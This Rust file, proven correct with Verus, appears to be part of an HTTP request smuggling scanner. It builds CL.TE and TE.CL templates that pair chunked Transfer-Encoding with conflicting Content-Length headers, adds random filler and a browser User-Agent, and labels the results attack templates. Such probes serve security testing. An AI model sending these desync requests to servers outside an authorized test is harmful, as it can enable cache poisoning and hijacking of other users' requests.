//! Mutation generator: builds the ambiguous request templates. The CL.TE
//! template carries a `Content-Length` computed from its own serialized
//! body; the TE.CL template carries the deliberately mismatched literal
//! `Content-Length: 5`. Both bodies end in a fresh random alphanumeric
//! filler so that repeated iterations are not byte-identical.

use vstd::prelude::*;
use vstd::string::*;
use rand::Rng;
use crate::text::dec_chars;
use crate::text::dec_string;

verus! {

/// An ASCII letter or digit.
pub open spec fn alphanum_char(c: char) -> bool {
    (0x30 <= c as u32 <= 0x39) || (0x41 <= c as u32 <= 0x5a) || (0x61 <= c as u32 <= 0x7a)
}

/// The random filler: exactly sixteen alphanumeric characters.
pub open spec fn is_filler(s: Seq<char>) -> bool {
    s.len() == 16 && forall|i: int| 0 <= i < s.len() ==> alphanum_char(#[trigger] s[i])
}

/// Relies on `rand`'s `Alphanumeric` distribution, each of whose samples
/// is an ASCII letter or digit, and on `take(len)` yielding exactly `len`
/// samples. Nothing else is assumed of the random values.
#[verifier::external_body]
fn random_string(len: usize) -> (r: String)
    ensures
        r@.len() == len as nat,
        forall|i: int| 0 <= i < r@.len() ==> alphanum_char(#[trigger] r@[i]),
{
    rand::thread_rng().sample_iter(&rand::distributions::Alphanumeric).take(len).map(
        char::from,
    ).collect()
}

/// The header pairs of a request, read as character sequences.
pub open spec fn header_views(hs: Seq<(String, String)>) -> Seq<(Seq<char>, Seq<char>)> {
    hs.map_values(|p: (String, String)| (p.0@, p.1@))
}

/// First value stored under `name`, if any.
pub open spec fn spec_header_lookup(hs: Seq<(Seq<char>, Seq<char>)>, name: Seq<char>) -> Option<
    Seq<char>,
>
    decreases hs.len(),
{
    if hs.len() == 0 {
        None
    } else if hs[0].0 == name {
        Some(hs[0].1)
    } else {
        spec_header_lookup(hs.drop_first(), name)
    }
}

/// The rendered header block: one `name: value` line per pair, each
/// terminated by CRLF, in order.
pub open spec fn spec_render_headers(hs: Seq<(Seq<char>, Seq<char>)>) -> Seq<char>
    decreases hs.len(),
{
    if hs.len() == 0 {
        Seq::empty()
    } else {
        spec_render_headers(hs.drop_last()) + hs.last().0 + ": "@ + hs.last().1 + "\r\n"@
    }
}

/// One serialized request: exactly one request line, the header lines,
/// a blank CRLF line, then the body verbatim.
pub open spec fn spec_raw_request(
    method: Seq<char>,
    path: Seq<char>,
    hs: Seq<(Seq<char>, Seq<char>)>,
    body: Seq<char>,
) -> Seq<char> {
    method + " "@ + path + " HTTP/1.1\r\n"@ + spec_render_headers(hs) + "\r\n"@ + body
}

/// Byte length of a body under UTF-8, the length that goes on the wire.
pub open spec fn body_byte_len(body: Seq<char>) -> nat {
    vstd::utf8::encode_utf8(body).len()
}

/// One HTTP/1.1 request to transmit.
pub struct Request {
    pub method: String,
    pub path: String,
    pub headers: Vec<(String, String)>,
    pub body: String,
}

impl Request {
    /// Serializes the request, matching `spec_raw_request` exactly.
    pub fn raw_format(&self) -> (r: String)
        ensures
            r@ == spec_raw_request(
                self.method@,
                self.path@,
                header_views(self.headers@),
                self.body@,
            ),
    {
        let ghost hv = header_views(self.headers@);
        let mut raw = self.method.clone();
        raw.append(" ");
        raw.append(self.path.as_str());
        raw.append(" HTTP/1.1\r\n");
        let ghost head = self.method@ + " "@ + self.path@ + " HTTP/1.1\r\n"@;
        assert(raw@ =~= head + spec_render_headers(hv.take(0)));
        let mut i: usize = 0;
        while i < self.headers.len()
            invariant
                i <= self.headers@.len(),
                hv == header_views(self.headers@),
                head == self.method@ + " "@ + self.path@ + " HTTP/1.1\r\n"@,
                raw@ == head + spec_render_headers(hv.take(i as int)),
            decreases self.headers@.len() - i,
        {
            let pair = &self.headers[i];
            raw.append(pair.0.as_str());
            raw.append(": ");
            raw.append(pair.1.as_str());
            raw.append("\r\n");
            proof {
                assert(hv.take(i + 1).drop_last() =~= hv.take(i as int));
                assert(hv.take(i + 1).last() == hv[i as int]);
                assert(hv[i as int].0 == pair.0@ && hv[i as int].1 == pair.1@);
                assert(raw@ =~= head + spec_render_headers(hv.take(i + 1)));
            }
            i = i + 1;
        }
        assert(hv.take(i as int) =~= hv);
        raw.append("\r\n");
        raw.append(self.body.as_str());
        assert(raw@ =~= spec_raw_request(
            self.method@,
            self.path@,
            header_views(self.headers@),
            self.body@,
        ));
        raw
    }
}

/// Appends `(name, value)` unless a header of that name is already
/// present, in which case nothing changes.
pub fn insert_header_if_absent(headers: &mut Vec<(String, String)>, name: String, value: String)
    ensures
        spec_header_lookup(header_views(old(headers)@), name@) is Some ==> final (headers)@ == old(
            headers,
        )@,
        spec_header_lookup(header_views(old(headers)@), name@) is None ==> header_views(
            final (headers)@,
        ) == header_views(old(headers)@).push((name@, value@)),
{
    let ghost hv = header_views(headers@);
    assert(hv.skip(0) =~= hv);
    let mut i: usize = 0;
    while i < headers.len()
        invariant
            i <= headers@.len(),
            headers@ == old(headers)@,
            hv == header_views(headers@),
            spec_header_lookup(hv, name@) == spec_header_lookup(hv.skip(i as int), name@),
        decreases headers@.len() - i,
    {
        if headers[i].0 == name {
            assert(hv.skip(i as int)[0] == hv[i as int]);
            assert(spec_header_lookup(hv, name@) is Some);
            return ;
        }
        proof {
            assert(hv.skip(i as int)[0] == hv[i as int]);
            assert(hv.skip(i as int).drop_first() =~= hv.skip(i + 1));
        }
        i = i + 1;
    }
    assert(hv.skip(i as int) =~= Seq::<(Seq<char>, Seq<char>)>::empty());
    assert(spec_header_lookup(hv, name@) is None);
    headers.push((name, value));
    assert(header_views(headers@) =~= hv.push((name@, value@)));
}

/// The four headers every generated template starts from.
pub open spec fn base_headers(host: Seq<char>) -> Seq<(Seq<char>, Seq<char>)> {
    seq![
        ("Host"@, host),
        ("User-Agent"@, ua_value()),
        ("Content-type"@, content_type_value()),
        ("Transfer-Encoding"@, "chunked"@),
    ]
}

pub open spec fn ua_value() -> Seq<char> {
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36"@
}

pub open spec fn content_type_value() -> Seq<char> {
    "application/x-www-form-urlencoded; charset=UTF-8"@
}

/// Shape of the CL.TE template: a terminated chunked stream followed by
/// the filler, and a `Content-Length` that equals the byte length of the
/// template's own serialized body.
pub open spec fn cl_te_shape(
    m: Mutation,
    method: Seq<char>,
    host: Seq<char>,
    path: Seq<char>,
    filler: Seq<char>,
) -> bool {
    &&& m.name@ == "CL.TE"@
    &&& m.payload_template.method@ == method
    &&& m.payload_template.path@ == path
    &&& m.payload_template.body@ == "0\r\n\r\n"@ + filler + " "@
    &&& header_views(m.payload_template.headers@) == base_headers(host).push(
        ("Content-Length"@, dec_chars(body_byte_len(m.payload_template.body@))),
    )
}

/// Shape of the TE.CL template: one five-byte chunk, the terminator, the
/// filler, and the literal `Content-Length: 5` whatever the body length.
pub open spec fn te_cl_shape(
    m: Mutation,
    method: Seq<char>,
    host: Seq<char>,
    path: Seq<char>,
    filler: Seq<char>,
) -> bool {
    &&& m.name@ == "TE.CL"@
    &&& m.payload_template.method@ == method
    &&& m.payload_template.path@ == path
    &&& m.payload_template.body@ == "5\r\nHELLO\r\n0\r\n\r\n"@ + filler + " "@
    &&& header_views(m.payload_template.headers@) == base_headers(host).push(
        ("Content-Length"@, "5"@),
    )
}

pub open spec fn is_cl_te_mutation(
    m: Mutation,
    method: Seq<char>,
    host: Seq<char>,
    path: Seq<char>,
) -> bool {
    exists|f: Seq<char>| is_filler(f) && cl_te_shape(m, method, host, path, f)
}

pub open spec fn is_te_cl_mutation(
    m: Mutation,
    method: Seq<char>,
    host: Seq<char>,
    path: Seq<char>,
) -> bool {
    exists|f: Seq<char>| is_filler(f) && te_cl_shape(m, method, host, path, f)
}

/// A named attack template, consumed once by the dispatcher.
pub struct Mutation {
    pub name: &'static str,
    pub payload_template: Request,
}

proof fn lemma_char_ascii(c: char)
    requires
        c as u32 <= 0x7f,
    ensures
        '\0' <= c <= '\u{7f}',
{
}

/// The CL.TE body is pure ASCII, so its byte length equals its character
/// count: five framing characters, the sixteen-character filler, and one
/// trailing space.
proof fn lemma_cl_te_body_byte_len(f: Seq<char>)
    requires
        is_filler(f),
    ensures
        body_byte_len("0\r\n\r\n"@ + f + " "@) == 22,
{
    reveal_strlit("0\r\n\r\n");
    reveal_strlit(" ");
    let bv = "0\r\n\r\n"@ + f + " "@;
    assert(bv.len() == 22);
    assert forall|i: int| 0 <= i < bv.len() implies '\0' <= #[trigger] bv[i] <= '\u{7f}' by {
        if i < 5 {
            assert(bv[i] == "0\r\n\r\n"@[i]);
        } else if i < 21 {
            assert(bv[i] == f[i - 5]);
            assert(alphanum_char(f[i - 5]));
        } else {
            assert(bv[i] == " "@[0]);
        }
        lemma_char_ascii(bv[i]);
    }
    assert(vstd::utf8::is_ascii_chars(bv));
    vstd::utf8::is_ascii_chars_encode_utf8(bv);
}

proof fn lemma_base_lookup_cl_none(host: Seq<char>)
    ensures
        spec_header_lookup(base_headers(host), "Content-Length"@) is None,
{
    reveal_strlit("Content-Length");
    reveal_strlit("Host");
    reveal_strlit("User-Agent");
    reveal_strlit("Content-type");
    reveal_strlit("Transfer-Encoding");
    let n = "Content-Length"@;
    let b = base_headers(host);
    assert(n.len() == 14);
    let b1 = b.drop_first();
    let b2 = b1.drop_first();
    let b3 = b2.drop_first();
    assert(b1 =~= seq![
        ("User-Agent"@, ua_value()),
        ("Content-type"@, content_type_value()),
        ("Transfer-Encoding"@, "chunked"@),
    ]);
    assert(b2 =~= seq![("Content-type"@, content_type_value()), ("Transfer-Encoding"@, "chunked"@)]);
    assert(b3 =~= seq![("Transfer-Encoding"@, "chunked"@)]);
    assert(b[0].0 != n) by {
        assert("Host"@.len() == 4);
    }
    assert(b1[0].0 != n) by {
        assert("User-Agent"@.len() == 10);
    }
    assert(b2[0].0 != n) by {
        assert("Content-type"@.len() == 12);
    }
    assert(b3[0].0 != n) by {
        assert("Transfer-Encoding"@.len() == 17);
    }
    assert(b3.drop_first() =~= Seq::<(Seq<char>, Seq<char>)>::empty());
    assert(spec_header_lookup(b3.drop_first(), n) is None);
    assert(spec_header_lookup(b3, n) is None);
    assert(spec_header_lookup(b2, n) is None);
    assert(spec_header_lookup(b1, n) is None);
}

fn build_base_headers(host: &String) -> (r: Vec<(String, String)>)
    ensures
        header_views(r@) == base_headers(host@),
{
    let mut headers: Vec<(String, String)> = Vec::new();
    headers.push((String::from_str("Host"), host.clone()));
    headers.push(
        (
            String::from_str("User-Agent"),
            String::from_str(
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36",
            ),
        ),
    );
    headers.push(
        (
            String::from_str("Content-type"),
            String::from_str("application/x-www-form-urlencoded; charset=UTF-8"),
        ),
    );
    headers.push((String::from_str("Transfer-Encoding"), String::from_str("chunked")));
    assert(header_views(headers@) =~= base_headers(host@));
    headers
}

impl Mutation {
    /// Builds the fixed ordered set of templates for one iteration: first
    /// CL.TE, whose `Content-Length` equals the byte length of its own
    /// body, then TE.CL, whose `Content-Length` is the literal `5`. Each
    /// call draws fresh random fillers.
    pub fn new_default_mutation(method: &String, host: &String, path: &String) -> (r: Vec<
        Mutation,
    >)
        ensures
            r@.len() == 2,
            is_cl_te_mutation(r@[0], method@, host@, path@),
            is_te_cl_mutation(r@[1], method@, host@, path@),
    {
        let filler1 = random_string(16);
        let mut body1 = String::from_str("0\r\n\r\n");
        body1.append(filler1.as_str());
        body1.append(" ");
        assert(body1@ =~= "0\r\n\r\n"@ + filler1@ + " "@);
        let mut headers1 = build_base_headers(host);
        proof {
            lemma_cl_te_body_byte_len(filler1@);
            assert(body_byte_len(body1@) == 22);
        }
        let blen = body1.as_str().len();
        let cl1 = dec_string(blen as u64);
        proof {
            lemma_base_lookup_cl_none(host@);
        }
        insert_header_if_absent(&mut headers1, String::from_str("Content-Length"), cl1);
        let mutation1 = Mutation {
            name: "CL.TE",
            payload_template: Request {
                method: method.clone(),
                path: path.clone(),
                headers: headers1,
                body: body1,
            },
        };
        proof {
            assert(is_filler(filler1@));
            assert(mutation1.name@ == "CL.TE"@);
            assert(mutation1.payload_template.method@ == method@);
            assert(mutation1.payload_template.path@ == path@);
            assert(mutation1.payload_template.body@ == "0\r\n\r\n"@ + filler1@ + " "@);
            assert(blen as nat == body_byte_len(mutation1.payload_template.body@));
            assert(header_views(mutation1.payload_template.headers@) == base_headers(host@).push(
                ("Content-Length"@, dec_chars(blen as nat)),
            ));
            assert(cl_te_shape(mutation1, method@, host@, path@, filler1@));
        }

        let filler2 = random_string(16);
        let mut body2 = String::from_str("5\r\nHELLO\r\n0\r\n\r\n");
        body2.append(filler2.as_str());
        body2.append(" ");
        assert(body2@ =~= "5\r\nHELLO\r\n0\r\n\r\n"@ + filler2@ + " "@);
        let mut headers2 = build_base_headers(host);
        proof {
            lemma_base_lookup_cl_none(host@);
        }
        insert_header_if_absent(&mut headers2, String::from_str("Content-Length"), dec_string(5));
        let mutation2 = Mutation {
            name: "TE.CL",
            payload_template: Request {
                method: method.clone(),
                path: path.clone(),
                headers: headers2,
                body: body2,
            },
        };
        proof {
            assert(dec_chars(5) =~= "5"@) by {
                reveal_strlit("5");
                crate::text::lemma_dec_bytes_digits(5);
                assert(crate::text::dec_bytes(5) =~= seq![0x35u8]);
            }
        }
        assert(is_filler(filler2@) && te_cl_shape(mutation2, method@, host@, path@, filler2@));

        let mut r: Vec<Mutation> = Vec::new();
        r.push(mutation1);
        r.push(mutation2);
        r
    }

    /// Serializes the template, matching `spec_raw_request`.
    pub fn raw_format(&self) -> (r: String)
        ensures
            r@ == spec_raw_request(
                self.payload_template.method@,
                self.payload_template.path@,
                header_views(self.payload_template.headers@),
                self.payload_template.body@,
            ),
    {
        self.payload_template.raw_format()
    }
}

/// Two CL.TE templates built from the same method, host and path render
/// to payloads of exactly the same length, whatever their random
/// fillers: the filler is always sixteen characters, so only its content
/// varies between iterations.
pub proof fn lemma_cl_te_payload_length_fixed(
    m1: Mutation,
    m2: Mutation,
    method: Seq<char>,
    host: Seq<char>,
    path: Seq<char>,
    f1: Seq<char>,
    f2: Seq<char>,
)
    requires
        is_filler(f1),
        is_filler(f2),
        cl_te_shape(m1, method, host, path, f1),
        cl_te_shape(m2, method, host, path, f2),
    ensures
        spec_raw_request(
            m1.payload_template.method@,
            m1.payload_template.path@,
            header_views(m1.payload_template.headers@),
            m1.payload_template.body@,
        ).len() == spec_raw_request(
            m2.payload_template.method@,
            m2.payload_template.path@,
            header_views(m2.payload_template.headers@),
            m2.payload_template.body@,
        ).len(),
{
    reveal_strlit("0\r\n\r\n");
    reveal_strlit(" ");
    lemma_cl_te_body_byte_len(f1);
    lemma_cl_te_body_byte_len(f2);
    assert(header_views(m1.payload_template.headers@) == header_views(
        m2.payload_template.headers@,
    ));
    assert(m1.payload_template.body@.len() == 22);
    assert(m2.payload_template.body@.len() == 22);
}

/// Serialization is a function of the request's fields alone: two
/// requests whose fields read equal render to the same characters. The
/// only field the generator ever varies between iterations is the random
/// filler inside the body, always sixteen alphanumeric characters.
pub proof fn lemma_serialization_deterministic(a: &Request, b: &Request)
    requires
        a.method@ == b.method@,
        a.path@ == b.path@,
        header_views(a.headers@) == header_views(b.headers@),
        a.body@ == b.body@,
    ensures
        spec_raw_request(a.method@, a.path@, header_views(a.headers@), a.body@) == spec_raw_request(
            b.method@,
            b.path@,
            header_views(b.headers@),
            b.body@,
        ),
{
}

} // verus!
